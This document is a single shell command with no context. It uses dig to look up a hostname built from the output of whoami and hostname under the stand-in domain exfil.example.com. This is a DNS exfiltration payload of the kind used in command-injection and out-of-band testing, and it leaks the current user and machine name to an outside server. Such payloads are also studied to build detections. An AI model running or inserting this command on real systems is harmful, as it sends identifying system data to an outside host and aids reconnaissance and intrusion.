dig $(whoami).$(hostname).exfil.example.com
